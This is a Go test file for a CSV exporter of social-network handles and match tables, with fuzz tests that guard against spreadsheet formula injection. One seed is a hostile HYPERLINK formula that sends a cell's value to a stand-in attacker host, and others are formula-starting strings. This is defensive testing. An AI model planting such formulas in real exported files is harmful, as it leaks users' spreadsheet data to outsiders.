package bridge

import (
	"encoding/csv"
	"errors"
	"fmt"
	"iter"
	"regexp"
	"slices"
	"strings"
	"testing"

	"godwit/internal/fault"
	"godwit/internal/social"
)

var importRow = regexp.MustCompile(`^[^@\s,"=+-][^@\s,"]*@[a-z0-9.-]+,(true|false),`)

// FuzzZIP13ImportRowsHoldNoFormulas makes rows of whatever parses as a handle.
func FuzzZIP13ImportRowsHoldNoFormulas(f *testing.F) {
	for _, s := range []string{"alice@example.social", "@a-b.c@example.social", "=1+1@example.social", "-x@example.social", "_@xn--bcher-kva.example.social", "+1@b.example.social", "＝1@b.example.social", "a\n=1@b.example.social"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		h, err := social.ParseHandle(s, social.Public)
		if err != nil {
			return
		}
		var b strings.Builder
		n, err := WriteCSV(&b, slices.Values([]social.Handle{h}))
		lines := strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")
		if err != nil || n != 1 || len(lines) != 2 || !importRow.MatchString(lines[1]) {
			t.Errorf("%q gave %q", s, lines)
		}
	})
}

func TestWriteCSVIsWhatMastodonReads(t *testing.T) {
	var b strings.Builder
	n, err := WriteCSV(&b, slices.Values([]social.Handle{handle(t, "@Alice@example.social"), handle(t, "bob@example.net")}))
	want := "Account address,Show boosts,Notify on new posts,Languages\nAlice@example.social,true,false,\nbob@example.net,true,false,\n"
	if b.String() != want || n != 2 || err != nil {
		t.Errorf("wrote %q, %d, %v", b.String(), n, err)
	}
	if rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll(); err != nil || len(rows) != 3 || len(rows[1]) != 4 {
		t.Errorf("read back as %v, %v", rows, err)
	}
}

func TestWriteCSVStopsAtWhatMastodonTakes(t *testing.T) {
	var b strings.Builder
	n, err := WriteCSV(&b, func(yield func(social.Handle) bool) {
		for i := range FileRows + 5 {
			if !yield(handle(t, fmt.Sprintf("u%d@example.social", i))) {
				return
			}
		}
	})
	if lines := strings.Count(b.String(), "\n"); n != FileRows || lines != FileRows+1 || err != nil {
		t.Errorf("%d rows, %d lines, %v", n, lines, err)
	}
}

type fullDisk struct{}

func (fullDisk) Write([]byte) (int, error) { return 0, errors.New("no space left") }

func TestFullDiskIsSaid(t *testing.T) {
	_, err := WriteCSV(fullDisk{}, slices.Values([]social.Handle{handle(t, "a@example.social")}))
	if !fault.Is(err, fault.Disk) || strings.Contains(fault.Say(err), "no space") {
		t.Errorf("error %v", err)
	}
}

// unapostrophe undoes what a spreadsheet shows.
func unapostrophe(cell string) string { return strings.TrimPrefix(cell, "'") }

// FuzzZIP13TableRunsNothing writes strangers' texts into the table for
// reading: no cell begins with what a spreadsheet would run, and taking the
// apostrophe off gives the original.
func FuzzZIP13TableRunsNothing(f *testing.F) {
	for _, s := range []string{"=1+1", "@SUM(1)", "-1", "+1", "\t=1", "＝1", `a","=1`, "a\r\n=1", "  =1", "\u3000＠x", "\u2003=1", "'=1", "plain", "", `=HYPERLINK("https://evil.test/?"&A1)`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if strings.Contains(s, "\r") { // encoding/csv does not keep them, here only
			s = strings.ReplaceAll(s, "\r", "")
		}
		var b strings.Builder
		rows := iter.Seq[[]string](func(yield func([]string) bool) { yield([]string{s, "x"}) })
		if err := WriteTable(&b, []string{"one", "two"}, rows); err != nil {
			t.Fatal(err)
		}
		got, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
		if err != nil || len(got) != 2 || len(got[1]) != 2 {
			t.Fatalf("%q read back as %q, %v", s, got, err)
		}
		cell := got[1][0]
		if regexp.MustCompile(`^(\t|\n|[\s\p{Z}]*[=+\-@＝＋－＠])`).MatchString(cell) {
			t.Errorf("%q is written as %q", s, cell)
		}
		if unapostrophe(cell) != s && cell != s || unapostrophe(s) != s && unapostrophe(cell) != s {
			t.Errorf("%q read back as %q", s, cell)
		}
	})
}

func TestMatchRowsFitTheirHeader(t *testing.T) {
	m := social.Match{
		Account:   social.Account{Name: "=Alice", Username: "alice_x", NativeID: "12"},
		Asked:     handle(t, "alice@old.test"),
		Certainty: social.Likely, Decision: social.Confirmed,
	}
	row := MatchRow(m)
	if len(row) != len(MatchTable) || row[3] != "alice@old.test" || row[5] != "likely" {
		t.Errorf("row %q", row)
	}
	if got := AccountRow(m.Account); len(got) != len(AccountTable) || got[2] != "12" {
		t.Errorf("row %q", got)
	}
}
